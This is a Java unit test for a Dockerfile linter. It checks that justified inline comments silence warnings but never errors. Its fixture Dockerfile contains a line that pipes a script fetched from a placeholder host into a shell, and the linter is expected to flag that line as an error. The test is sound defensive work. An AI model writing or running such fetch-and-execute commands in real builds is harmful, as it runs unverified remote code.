package dev.progy.guard;

import dev.progy.guard.scripts.DockerfileChecks;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

/** A justified inline comment silences a warning, never an error. */
class SilencingTest {

    @TempDir
    Path course;

    @Test
    @DisplayName("a warning is silenced by a reasoned comment above it; an unreasoned one and an error stay, each saying why")
    void silencing() throws IOException {
        Files.writeString(course.resolve("Dockerfile"), """
                # progy-guard: allow PG-D001 -- the CI job pins this image by digest before publishing
                FROM ubuntu
                FROM debian # progy-guard: allow PG-D001
                # progy-guard: allow PG-D005 -- trust me
                RUN curl https://x.example/i.sh | sh
                USER 1000
                """);
        var findings = DockerfileChecks.check("Dockerfile", Files.readString(course.resolve("Dockerfile")));
        var kept = Silencing.apply(course, findings);
        assertThat(kept).extracting(f -> f.rule().id() + "@" + f.line()).containsExactly("PG-D001@3", "PG-D005@5");
        assertThat(kept.get(0).message()).contains("gives no reason");
        assertThat(kept.get(1).message()).contains("an error cannot be silenced");
    }
}
